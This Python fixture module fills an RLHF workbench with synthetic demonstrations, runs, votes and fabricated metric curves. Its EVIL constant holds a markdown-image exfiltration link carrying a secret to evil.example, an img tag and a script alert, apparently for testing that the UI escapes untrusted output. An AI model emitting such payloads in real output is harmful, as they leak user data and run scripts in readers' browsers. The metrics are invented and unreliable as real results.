"""Fills a workspace with plausible rows, as if a team had worked in it."""

from __future__ import annotations

import math
import random
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

from storage.answers import AnswerRow
from storage.demonstrations import Demonstration
from storage.evaluations import EvaluationRow
from storage.models import Model
from storage.pairs import Pair
from storage.responses import Response
from storage.runs import Run
from storage.samples import StoredSample
from storage.votes import Vote
from workbench.models.spec import ModelSpec
from workbench.ppo.config import PPORunConfig
from workbench.reward_model.config import RewardModelConfig
from workbench.sft.config import SFTConfig
from workbench.workspace import Workspace

TOPICS = (
    ("the HR department in Boston", "third floor of the Harbor building", "hr"),
    ("the travel desk", "ground floor, beside the reception", "travel"),
    ("the laptop repair point", "room 2.14 in the north wing", "it"),
    ("the payroll office", "second floor of the Mill house", "hr"),
    ("the visitor car park", "level B1, entrance Pine Street", "facilities"),
    ("the training library", "fourth floor, next to the canteen", "people"),
    ("the legal team in Lyon", "rue Garibaldi 12, first floor", "legal"),
    ("the print room", "room 0.03 beside the mail room", "facilities"),
)
WORDINGS = ("Where is {}?", "Could you tell me where I find {}?", "I am looking for {}.", "How do I get to {}?")
EVIL = "![x](https://evil.example/leak.png?secret=1) <img src=https://evil.example/i.png> <script>alert(1)</script>"
PPO_CURVES = (
    ("objective/rlhf_reward", 0.2, 1.4),
    ("objective/scores", 0.3, 1.7),
    ("objective/kl", 0.0, 2.4),
    ("objective/entropy", 1.9, 0.8),
    ("loss/policy", 0.02, -0.01),
    ("loss/value", 0.8, 0.1),
    ("policy/clipfrac", 0.02, 0.12),
    ("response/length", 18.0, 22.0),
    ("value/explained_variance", 0.0, 0.7),
)
SPLITS: tuple[Any, ...] = ("train", "train", "validation", "test")
NOW = datetime(2024, 9, 2, 9, 0, tzinfo=UTC)


def demonstrations(ws: Workspace) -> None:
    """Each fact in several wordings, the last of them held out."""
    ws.demonstrations.add_many(
        [
            Demonstration(
                id=f"d{number}{index}",
                prompt=wording.format(topic),
                response=f"You find {topic} here: {place}. Ask at the desk if you need help.",
                tags=(tag,),
                source="Handbook",
                author="Ada",
                status="approved",
                split=SPLITS[index],
                fact_id=f"fact-{number}",
                key_facts=(place,),
                created_at=NOW,
                updated_at=NOW,
            )
            for number, (topic, place, tag) in enumerate(TOPICS)
            for index, wording in enumerate(WORDINGS)
        ]
    )


def model(ws: Workspace, model_id: str, kind: Any, parent: str) -> None:
    """A registered model without weights."""
    spec = ModelSpec(adapters=(f"runs/{model_id}/final",)).model_dump(mode="json")
    ws.models.add(Model(model_id, model_id, kind, spec, model_id, parent, datetime.now(UTC)))


def run(ws: Workspace, kind: Any, status: Any, config: dict[str, Any], **fields: Any) -> str:
    """A run's row and folder."""
    run_id = ws.runs.next_id(kind)
    folder = ws.root / "runs" / run_id
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "log.txt").write_text(f"Starting {run_id}\nloading weights\nstep 1 loss 2.31\n", encoding="utf-8")
    now = datetime.now(UTC)
    values: dict[str, Any] = {
        "phase": "training",
        "done": 40.0,
        "total": 64.0,
        "eta_seconds": 75.0 if status == "running" else None,
        "created_at": now - timedelta(minutes=12),
        "started_at": None if status == "pending" else now - timedelta(minutes=11),
        "finished_at": None if status in ("pending", "running", "stopping") else now - timedelta(minutes=7),
    }
    ws.runs.add(
        Run(
            id=run_id,
            kind=kind,
            name=run_id,
            status=status,
            directory=f"runs/{run_id}",
            config=config,
            created_by="Ada",
            **(values | fields),
        )
    )
    return run_id


Curve = tuple[str, float, float]
"""Name, first and last value of a metric."""


def curves(ws: Workspace, run_id: str, steps: int, wanted: Sequence[Curve]) -> None:
    """Metrics that settle from one value to another."""
    dice = random.Random(run_id)
    rows = []
    for step in range(1, steps + 1):
        decay = math.exp(-4 * step / steps)
        rows.append(
            (
                step,
                {
                    name: last + (first - last) * decay + dice.gauss(0, 0.03 * max(abs(first - last), 0.05))
                    for name, first, last in wanted
                },
            )
        )
    ws.metrics.add_steps(run_id, rows)


def sft(ws: Workspace, status: str = "finished") -> str:
    """An SFT run; a finished one has its model and its comparison with the base model."""
    run_id = run(ws, "sft", status, SFTConfig().model_dump(mode="json"), summary={"seconds": 96.0})
    curves(ws, run_id, 40, [("train/loss", 3.1, 0.2), ("eval/loss", 2.9, 0.35)])
    if status == "finished":
        model(ws, run_id, "sft", "base")
        comparison(ws, run_id, "base", run_id, facts=(0.0, 0.9))
    return run_id


def comparison(ws: Workspace, run_id: str, before: str, after: str, facts: tuple[float, float]) -> None:
    """Answers of two models to the held-out prompts, with their measures."""
    dice = random.Random(run_id)
    answers = []
    rows = ws.demonstrations.list(split="test")
    for model_id, right in ((before, facts[0]), (after, facts[1])):
        for row in rows:
            good = dice.random() < right
            text = row.response if good else "Please ask your manager, I am not sure where that is."
            measures = {
                "bleu": 80 + dice.random() * 20 if good else 5 + dice.random() * 20,
                "chrf": 85.0 if good else 22.0,
                "embedding_similarity": 0.9 + dice.random() / 10 if good else 0.3 + dice.random() / 4,
                "fact_accuracy": 1.0 if good else 0.0,
                "length": float(len(text.split())),
            }
            answers.append(AnswerRow(run_id, model_id, row.id, row.prompt, row.response, text, measures))
    ws.answers.add_many(answers)
    measured = {
        "fact_accuracy": (*facts, 0.07, ""),
        "embedding_similarity": (0.44 if facts[0] == 0 else 0.95, 0.95, 0.02, "all-MiniLM-L6-v2"),
        "bleu": (
            18.2 if facts[0] == 0 else 92.4,
            92.4,
            3.1,
            "nrefs:1|case:mixed|eff:no|tok:13a|smooth:exp|version:2.6.0",
        ),
        "chrf": (27.0, 93.8, 2.4, "nrefs:1|case:mixed|eff:yes|nc:6|nw:0|space:no|version:2.6.0"),
        "length": (9.1, 14.2, 0.5, ""),
    }
    ws.evaluations.add_many(
        [
            EvaluationRow(run_id, model_id, "test", name, v, max(0.0, v - half), v + half, len(rows), sign, None, NOW)
            for name, (low, high, half, sign) in measured.items()
            for model_id, v in ((before, low), (after, high))
        ]
    )


def pairs(ws: Workspace, model_a: str, model_b: str, number: int = 12, evil: bool = False) -> list[str]:
    """Pairs of responses, in all splits."""
    run_id = run(ws, "pairs", "finished", {"model_id": model_a, "other_model_id": model_b})
    now = datetime.now(UTC)
    responses, rows = [], []
    for index, row in enumerate(ws.demonstrations.list()[:number]):
        texts = {"a": EVIL if evil else row.response, "b": f"Hello! {row.response} Have a good day."}
        models = {"a": model_a, "b": model_b}
        made = {side: f"{run_id}-{index}{side}" for side in "ab"}
        responses += [
            Response(made[side], run_id, models[side], row.prompt, texts[side], index, 1.0, now) for side in "ab"
        ]
        rows.append(
            Pair(
                id=f"{run_id}-{index}",
                run_id=run_id,
                prompt=row.prompt,
                demonstration_id=row.id,
                split=row.split,
                response_a_id=made["a"],
                response_b_id=made["b"],
                response_a=texts["a"],
                response_b=texts["b"],
                model_a=model_a,
                model_b=model_b,
                created_at=now,
            )
        )
    ws.responses.add_many(responses)
    ws.pairs.add_many(rows)
    return [pair.id for pair in rows]


def votes(ws: Workspace, pair_ids: list[str], names: tuple[str, ...], simulated: bool = False) -> None:
    """Votes of several annotators who mostly agree."""
    dice = random.Random(7)
    choices: list[Any] = ["a", "b", "tie"]
    rows = []
    for name in names:
        annotator = ws.annotators.get_or_create(name, "simulated" if simulated else "person")
        for pair_id in pair_ids:
            choice = dice.choices(choices, (7, 2, 1))[0]
            rows.append(Vote(f"{name}-{pair_id}", pair_id, annotator.id, choice, "a", simulated, 6.0, NOW))
    ws.votes.add_many(rows)


def reward_model(ws: Workspace, trunk: str, source: Any = "people", status: str = "finished") -> str:
    """A reward-model run."""
    summary = {
        "accuracy": 0.81,
        "accuracy_ci": [0.72, 0.88],
        "train_pairs": 212,
        "held_out_pairs": 88,
        "ece": 0.06,
        "seconds": 84.0,
    }
    config = RewardModelConfig(model_id=trunk, votes=source).model_dump(mode="json")
    run_id = run(ws, "reward_model", status, config, summary=summary)
    losses: list[Curve] = [("train/loss", 0.69, 0.3), ("eval/loss", 0.69, 0.42)]
    curves(ws, run_id, 30, [*losses, ("train/accuracy", 0.5, 0.9), ("eval/accuracy", 0.5, 0.8)])
    model(ws, run_id, "reward_model", trunk)
    return run_id


def ppo(ws: Workspace, reward_model_id: str, start: str, status: str = "finished", **fields: Any) -> str:
    """A PPO run with all its curves and the fixed prompts' answers."""
    summary = {"score_before": 0.31, "score_after": 1.62, "kl": 2.4, "episodes": 4096, "seconds": 410.0}
    config = PPORunConfig(reward_model_id=reward_model_id).model_dump(mode="json")
    fields = {"summary": summary if status == "finished" else {}} | fields
    run_id = run(ws, "ppo", status, config, **fields)
    curves(ws, run_id, 40, PPO_CURVES)
    samples = [
        StoredSample(run_id, step, True, prompt, f"You find it on the third floor. (update {step})", step / 25, 0.4, 17)
        for step in range(0, 41, 5)
        for prompt in ("Where is the HR department in Boston?", "How do I get to the print room?")
    ]
    ws.samples.add_many(samples)
    ws.notices.add(run_id, "2 prompts were longer than 256 tokens and were left out.", 2, NOW)
    if status == "finished":
        model(ws, run_id, "ppo", start)
        comparison(ws, run_id, start, run_id, facts=(0.9, 0.95))
    return run_id


def whole_team(ws: Workspace) -> None:
    """All four steps done once."""
    demonstrations(ws)
    sft_id = sft(ws)
    people = pairs(ws, sft_id, "base", number=12)
    votes(ws, people, ("Ada", "Ben"))
    votes(ws, people, ("Sim 1", "Sim 2"), simulated=True)
    reward_id = reward_model(ws, sft_id)
    ppo(ws, reward_id, sft_id)
